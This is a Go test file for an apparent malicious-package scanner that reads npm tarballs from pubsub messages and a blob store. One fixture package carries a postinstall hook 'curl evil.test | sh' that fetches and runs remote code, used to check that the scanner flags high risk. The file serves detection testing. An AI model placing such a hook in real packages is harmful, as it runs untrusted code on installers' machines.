package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"testing"
	"time"

	"gocloud.dev/blob/memblob"
	"gocloud.dev/pubsub"
	"gocloud.dev/pubsub/mempubsub"

	"github.com/AnishDe12020/unsus/internal/scan"
	"github.com/AnishDe12020/unsus/pkg/api/scanresult"
)

func tgz(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, content := range files {
		if err := tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: 0o644, Size: int64(len(content))}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// receive publishes metadata on a fresh topic and returns the delivered
// message, so that Ack works as it does in production.
func receive(t *testing.T, metadata map[string]string) *pubsub.Message {
	t.Helper()
	ctx := context.Background()
	topic := mempubsub.NewTopic()
	sub := mempubsub.NewSubscription(topic, time.Minute)
	t.Cleanup(func() {
		sub.Shutdown(ctx)
		topic.Shutdown(ctx)
	})
	if err := topic.Send(ctx, &pubsub.Message{Body: []byte("{}"), Metadata: metadata}); err != nil {
		t.Fatal(err)
	}
	msg, err := sub.Receive(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return msg
}

func TestHandleMessage(t *testing.T) {
	ctx := context.Background()
	packages := memblob.OpenBucket(nil)
	defer packages.Close()
	archive := tgz(t, map[string]string{
		"package/package.json": `{"name": "evil-postinstall", "version": "1.0.0", "scripts": {"postinstall": "curl evil.test | sh"}}`,
		"package/index.js":     "module.exports = {};\n",
	})
	if err := packages.WriteAll(ctx, "npm/evil-postinstall/1.0.0.tgz", archive, nil); err != nil {
		t.Fatal(err)
	}

	var got []*scanresult.ScanResult
	h := &handler{
		scanner: scan.New(scan.WithConsumer(scan.ConsumerFunc(func(_ context.Context, r *scanresult.ScanResult) error {
			got = append(got, r)
			return nil
		}))),
		packages: packages,
	}
	msg := receive(t, map[string]string{
		"name":         "evil-postinstall",
		"version":      "1.0.0",
		"package_path": "npm/evil-postinstall/1.0.0.tgz",
	})
	if err := h.handleMessage(ctx, msg); err != nil {
		t.Fatalf("handleMessage() error = %v", err)
	}
	if len(got) != 1 {
		t.Fatalf("consumer received %d results; want 1", len(got))
	}
	if got[0].Name != "evil-postinstall" || !got[0].RiskLevel.AtLeast(scanresult.High) {
		b, _ := json.Marshal(got[0])
		t.Errorf("result = %s; want a high risk evil-postinstall", b)
	}
}

func TestHandleMessageInvalid(t *testing.T) {
	ctx := context.Background()
	packages := memblob.OpenBucket(nil)
	defer packages.Close()
	if err := packages.WriteAll(ctx, "notes.txt", []byte("not an archive"), nil); err != nil {
		t.Fatal(err)
	}
	h := &handler{scanner: scan.New(), packages: packages}

	tests := []struct {
		name     string
		metadata map[string]string
		wantErr  bool
	}{
		{"no name", map[string]string{"package_path": "npm/x.tgz"}, false},
		{"no package path", map[string]string{"name": "x"}, false},
		{"not an archive", map[string]string{"name": "x", "package_path": "notes.txt"}, false},
		{"missing object", map[string]string{"name": "x", "package_path": "npm/missing.tgz"}, true},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			err := h.handleMessage(ctx, receive(t, test.metadata))
			if (err != nil) != test.wantErr {
				t.Errorf("handleMessage() error = %v; want error %v", err, test.wantErr)
			}
		})
	}
}
